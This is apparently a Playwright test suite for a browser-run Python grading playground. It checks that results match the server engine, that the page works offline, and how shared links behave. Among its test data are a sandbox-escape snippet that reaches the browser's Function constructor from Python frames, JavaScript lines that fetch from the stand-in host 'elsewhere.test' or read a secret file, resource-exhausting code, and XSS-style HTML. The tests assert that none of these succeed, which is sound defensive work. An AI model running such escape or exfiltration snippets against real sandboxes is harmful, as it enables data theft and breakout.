"""The playground in a real browser, served by Python's web server: it says of a file what the engine says."""

import base64
import re
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from axe_playwright_python.base import AXE_FILE_PATH
from bs4 import BeautifulSoup
from playwright.sync_api import Browser, BrowserContext, FilePayload, Page, Route, expect

from grader.assignment import assignment, at_textbook_inputs
from grader.grade import grade
from grader.sandbox.embedded import Embedded
from grader.sandbox.plays import Source
from tests.browser.playground import served
from tests.corpus_files import Member, members
from tests.thorough import by_turns
from tests.world import pyodide
from tests.world.playground_site import site_once

pytestmark = [
    pytest.mark.skipif(bool(pyodide.lacking()), reason=pyodide.lacking()),
    pytest.mark.sampled(one_in=48, of="the engine in a browser"),
]

RIGHT = (Path(__file__).parents[2] / "examples" / "correct.py").read_text()
OVERWRITES = (Path(__file__).parents[2] / "examples" / "overwrite.py").read_text()
ENDINGS = {
    "is_right": "",
    "never_ends": "a = 0\nwhile a < 1:\n    a = a * 1\n",
    "catches_its_end": "while True:\n    try:\n        while True: pass\n    except BaseException: pass\n",
    "computes_in_one_call": "x = 10 ** 10 ** 9\n",
    "exits": "import os\nos._exit(3)\n",
    "closes_its_streams": "import os, sys\nsys.stdout.close()\nos.close(1)\nos.close(2)\n",
    "fills_the_memory": "x = []\nwhile True:\n    x.append(bytearray(10_000_000))\n",
    "cannot_be_parsed": "def f(:\n",
}
OVERFLOWS = {"reflected_recurses"}
"""Faults by which an operator recurses without end: that overflows a browser's stack, and ends the worker."""
WITHOUT_NUMPY = [
    member
    for member in members()
    if not member.submission.imports.has_numpy and member.fault not in OVERFLOWS
]
DRAWN = by_turns(WITHOUT_NUMPY, lambda found: found.id, one_in=450)
PATIENCE_MILLISECONDS = 300_000
ENDED = "[data-now=done], [data-now=failed], [data-now=numpy], [data-now=unreachable]"

KEPT = "caches.open('backgrade').then((kept) => kept.keys()).then((asked) => asked.map(({ url }) => url))"

REACHES_OUT = """
import sys
frame = sys._getframe()
while "begins" not in frame.f_locals:
    frame = frame.f_back
run = frame.f_locals["begins"].constructor
try:
    run({code!r})()
except BaseException:
    pass
"""
"""A file that finds what is left of the browser in a frame of ours, and runs a script of its own there."""
LEAVES = {
    "imports": "return import('http://elsewhere.test/x.js').catch(() => {})",
    "imports_from_the_host": "return import('/static/secret.json', {with: {type: 'json'}}).catch(() => {})",
    "loads_a_font": "new FontFace('x', 'url(http://elsewhere.test/x.woff)').load().catch(() => {})",
    "is_another_worker": "new Worker('data:text/javascript,import(\"http://elsewhere.test/y.js\")')",
}
FORGED = """<iframe srcdoc="x"></iframe><meta http-equiv="refresh" content="0;url=//elsewhere.test/">
<form action="//elsewhere.test"><button>x</button></form><a href="//elsewhere.test/">a</a>
<a href="javascript:alert(1)">b</a><svg><a xlink:href="//elsewhere.test/"><text>c</text></a></svg>
<a href="#here">d</a>"""
"""HTML that a file may give back as its result."""

Opened = Callable[..., Page]


@pytest.fixture(scope="session")
def playground(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of the site, on a server that only hands out files."""
    with served(site_once(tmp_path_factory), tmp_path_factory.mktemp("playground")) as address:
        yield address


@pytest.fixture
def opened(browser: Browser, playground: str) -> Iterator[Opened]:
    """Opens the site in windows of one browser of its own."""
    contexts: list[BrowserContext] = []

    def page(path: str = "", **options: Any) -> Page:
        context = browser.new_context(base_url=playground, **options)
        context.add_init_script(path=AXE_FILE_PATH)
        contexts.append(context)
        found = context.new_page()
        found.set_default_timeout(PATIENCE_MILLISECONDS)
        found.goto(path)
        return found

    yield page
    for context in contexts:
        context.close()


def give(page: Page, text: str) -> None:
    """Open a file with this text."""
    file = FilePayload(name="value.py", mimeType="text/x-python", buffer=text.encode())
    page.locator("#file").set_input_files(file)


def checked(page: Page, text: str) -> tuple[float, float, str, list[str]]:
    """Check a text; the points, the kind of problem and the causes that the page shows."""
    give(page, text)
    expect(page.locator("#code")).to_have_value(text)
    page.get_by_role("button", name="Check").click()
    page.locator(ENDED).wait_for(state="attached")
    said = page.locator(".said")
    expect(said).to_have_attribute("data-now", "done")
    shown = page.locator("#checked")
    earned, possible, problem, causes = (
        shown.get_attribute(f"data-{name}") or "" for name in ("earned", "possible", "problem", "causes")
    )
    return float(earned), float(possible), problem, causes.split()


def expected(text: str, sandbox: Embedded) -> tuple[float, float, str, list[str]]:
    """What the engine says of it in a sandbox, at the same inputs."""
    source = Source("value.py", text.encode())
    report = grade(source, at_textbook_inputs(assignment("full")), sandbox)
    findings = report.diagnosis.findings if report.diagnosis else ()
    problem = report.problem.kind.value if report.problem else ""
    return report.score.earned, report.score.possible, problem, [each.fault or "" for each in findings]


@pytest.mark.parametrize("ending", ENDINGS)
def test_whatever_a_file_does_its_result_is_that_of_the_engine(
    ending: str, opened: Opened, sandbox: Embedded
) -> None:
    text = f"{RIGHT}\n{ENDINGS[ending]}"
    assert checked(opened(), text) == expected(text, sandbox)


@pytest.mark.parametrize("found", DRAWN, ids=lambda found: found.id)
def test_a_class_of_the_corpus_gets_its_points_and_causes(
    found: Member, opened: Opened, sandbox: Embedded
) -> None:
    text = found.source.decode()
    assert checked(opened(), text) == expected(text, sandbox)


def test_a_wrong_file_gets_its_cause_a_picture_and_a_replay_and_an_address(
    opened: Opened, sandbox: Embedded
) -> None:
    page = opened("es/", viewport={"width": 360, "height": 800}, color_scheme="dark")
    page.locator("#code").wait_for(state="attached")
    give(page, OVERWRITES)
    page.locator("button[value=code]").click()
    page.locator(ENDED).wait_for(state="attached")
    shown = page.locator("#checked")
    expect(shown).to_have_attribute("data-causes", " ".join(expected(OVERWRITES, sandbox)[3]))
    expect(shown.locator(".finding svg").first).to_be_attached()
    expect(shown.locator("details.replay").first).to_be_attached()
    assert page.evaluate("axe.run()")["violations"] == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.locator("#share").click()
    expect(page).to_have_url(re.compile("#code="))
    other = opened(page.url)
    expect(other.locator("#code")).to_have_value(OVERWRITES)


def test_it_works_without_a_connection_after_the_first_visit(opened: Opened, sandbox: Embedded) -> None:
    page = opened()
    page.locator("[data-now=ready]").wait_for(state="attached")
    needed = ["pyodide.asm.wasm", "manifest.json", "pyodide.mjs", "/faults/overwritten_gradient.html"]
    while not all(any(name in url for url in page.evaluate(KEPT)) for name in needed):
        page.wait_for_timeout(100)
    page.context.set_offline(True)
    page.reload()
    assert checked(page, OVERWRITES) == expected(OVERWRITES, sandbox)
    page.locator("#checked a[href*='faults/overwritten_gradient']").first.click()
    expect(page.locator("h1")).to_contain_text("Gradient overwritten")


def test_a_bar_shows_how_much_of_the_engine_is_there(opened: Opened) -> None:
    page = opened("suites.html", service_workers="block")
    held: list[Route] = []
    page.route("**/engine/pyodide.asm.wasm*", lambda route: held.insert(0, route))
    page.goto("")
    bar = page.locator("#playground progress")
    expect(bar).to_be_visible()
    held[0].continue_()
    page.locator("[data-now=ready]").wait_for(state="attached")
    expect(bar).to_be_hidden()


def test_where_the_engine_cannot_be_loaded_a_check_says_that(opened: Opened) -> None:
    page = opened("suites.html", service_workers="block")
    page.route("**/engine/**", lambda route: route.abort())
    page.goto("")
    page.locator("[data-now=unreachable]").wait_for(state="attached")
    give(page, RIGHT)
    page.get_by_role("button", name="Check").click()
    expect(page.locator(".said")).to_have_attribute("data-now", "unreachable")
    expect(page.locator("#checked")).not_to_have_attribute("aria-busy", "true")


def test_nothing_is_no_file_and_other_code_takes_a_result_away(opened: Opened) -> None:
    page = opened()
    page.locator("#code").wait_for(state="attached")
    page.get_by_role("button", name="Check").click()
    expect(page.locator(".said")).to_have_attribute("data-now", "empty")
    checked(page, "def f(:\n")
    page.locator("#example").select_option("right")
    expect(page.locator("#code")).to_have_value(re.compile("class Value"))
    expect(page.locator("#checked")).to_be_empty()


def test_code_that_is_typed_over_a_notebook_is_checked_as_code(opened: Opened) -> None:
    page = opened()
    notebook = (Path(__file__).parents[2] / "examples" / "notebook.ipynb").read_bytes()
    file = FilePayload(name="week3.ipynb", mimeType="application/json", buffer=notebook)
    page.locator("#file").set_input_files(file)
    expect(page.locator("#code")).to_have_value(re.compile("nbformat"))
    replaced(page, "def f(:\n")
    page.get_by_role("button", name="Check").click()
    expect(page.locator("#checked")).to_have_attribute("data-problem", "syntax")


def replaced(page: Page, text: str) -> None:
    """Put a text into the editor, as typing does."""
    put = """(area, text) => {
        area.value = text;
        for (const name of ["replaced", "input"]) area.dispatchEvent(new Event(name, { bubbles: true }));
    }"""
    page.locator("#code").evaluate(put, text)


def test_ones_own_code_comes_back_after_examples(opened: Opened) -> None:
    page = opened()
    page.locator("#code").wait_for(state="attached")
    replaced(page, "mine")
    for name in ("overwritten_gradient", "right"):
        page.locator("#example").select_option(name)
        expect(page.locator("#code")).to_have_value(re.compile("class Value"))
    page.locator("#example").select_option("")
    expect(page.locator("#code")).to_have_value("mine")


def test_a_file_that_was_changed_can_be_opened_again(opened: Opened, tmp_path: Path) -> None:
    page, file = opened(), tmp_path / "value.py"
    for text in ("first", "second"):
        file.write_text(text)
        with page.expect_file_chooser() as chooser:
            page.locator("#file").click()
        chooser.value.set_files(file)
        expect(page.locator("#code")).to_have_value(text)


def test_a_complaint_about_a_file_goes_with_the_next_one(opened: Opened) -> None:
    page = opened()
    page.locator("#file").set_input_files(FilePayload(name="a.txt", mimeType="text/plain", buffer=b"x"))
    expect(page.locator(".said")).to_have_attribute("data-now", "fileType")
    give(page, "a = 1")
    expect(page.locator(".said.bad")).to_have_count(0)


def test_without_scripts_it_says_what_to_do(opened: Opened) -> None:
    page = opened(java_script_enabled=False)
    expect(page.get_by_text("This page needs JavaScript and WebAssembly")).to_have_count(1)
    expect(page.locator("#playground")).to_be_hidden()


def test_a_file_with_numpy_is_left_to_a_server(opened: Opened) -> None:
    page = opened()
    give(page, "import numpy\nclass Value: pass\n")
    page.get_by_role("button", name="Check").click()
    page.locator("[data-now=numpy]").wait_for(state="attached")


def shared(text: str) -> str:
    """The part of an address that holds this text."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(text.encode()) + packer.flush()
    return f"#code={base64.urlsafe_b64encode(packed).decode().rstrip('=')}"


def test_code_that_comes_with_an_address_runs_on_a_click_and_leaves_the_draft_of_the_reader(
    opened: Opened,
) -> None:
    page = opened()
    give(page, "mine")
    expect(page.locator("#code")).to_have_value("mine")
    page.goto("about:blank")
    page.goto(shared("theirs"))
    expect(page.locator("#code")).to_have_value("theirs")
    expect(page.locator(".said")).to_have_attribute("data-now", "shared")
    expect(page.locator("#checked")).to_be_empty()
    page.goto("about:blank")
    page.goto("")
    expect(page.locator("#code")).to_have_value("mine")


def test_a_second_address_in_the_same_tab_is_opened(opened: Opened) -> None:
    page = opened(shared("first"))
    expect(page.locator("#code")).to_have_value("first")
    page.goto(shared("second"))
    expect(page.locator("#code")).to_have_value("second")
    expect(page.locator(".said")).to_have_attribute("data-now", "shared")


def test_an_address_whose_code_cannot_be_read_says_so(opened: Opened) -> None:
    page = opened("#code=AAAA")
    expect(page.locator(".said")).to_have_attribute("data-now", "unreadable")


def test_an_address_that_unpacks_to_more_than_an_editor_holds_is_not_unpacked(opened: Opened) -> None:
    page = opened(shared(" " * 100_000_000))
    page.locator("#playground").wait_for(state="visible")
    page.locator("[data-now=unreadable]").wait_for(state="attached")
    expect(page.locator("#code")).to_have_value("")


@pytest.mark.parametrize("way", LEAVES)
def test_a_file_asks_nobody_for_anything(way: str, opened: Opened) -> None:
    page = opened()
    page.locator("[data-now=ready]").wait_for(state="attached")
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    checked(page, f"{RIGHT}\n{REACHES_OUT.format(code=LEAVES[way])}")
    page.locator("#share").click()
    assert [url for url in asked if "elsewhere" in url or "secret" in url] == []


def test_of_the_html_of_a_result_nothing_is_shown_that_leads_elsewhere(opened: Opened) -> None:
    shown = opened().evaluate(
        """async (html) => {
            const { harmless } = await import(new URL("static/harmless.js", location.href));
            const place = document.createElement("div");
            place.replaceChildren(...harmless(html));
            return place.innerHTML;
        }""",
        FORGED,
    )
    left = BeautifulSoup(shown, "html.parser")
    assert not re.search("elsewhere|javascript", shown)
    assert left.find(["iframe", "meta", "form"]) is None
    assert [link.get_text() for link in left.find_all("a")] == ["a", "b", "c", "d"]
    assert [link["href"] for link in left.find_all("a", href=True)] == ["#here"]
